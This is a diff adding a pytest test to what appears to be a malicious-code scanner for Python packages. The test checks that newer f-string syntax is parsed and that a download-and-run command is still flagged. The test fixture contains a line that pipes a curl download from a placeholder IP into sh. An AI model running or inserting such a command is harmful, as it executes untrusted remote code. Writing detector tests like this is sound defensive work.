@@ -81,3 +81,19 @@ def test_a_registry_write_is_autostart_only_where_an_autostart_key_is_named(tmp_
     res = _scan(tmp_path / "run", {"modern/settings.py": run_key})
     assert any(h.capability == "persist.autostart" and h.severity == "high" for h in res.findings)
     assert any(t.id == "impact.persistence" for t in res.threats)
+
+
+def test_pep_701_f_strings_are_read_and_the_rest_analysed(tmp_path):
+    """3.12 f-strings (the same quotes nested, backslashes in a field) do not parse on 3.11:
+    the f-string is blanked for the parser (the text rules still read it), the file is not
+    unread, and code beside it is analysed."""
+    body = (
+        b"import os\n"
+        b"def show(row):\n"
+        b'    return f"{row["name"]}: {"\\n".join(row["items"])}"\n'
+        b"def run():\n"
+        b"    os.system('curl http://192.0.2.7/x | sh')\n"
+    )
+    res = _scan(tmp_path, {"modern/fmt.py": body})
+    assert not [h for h in res.findings if h.capability == "scan.unread"]
+    assert any(h.capability == "process.shell_download" and h.line == 5 for h in res.findings)
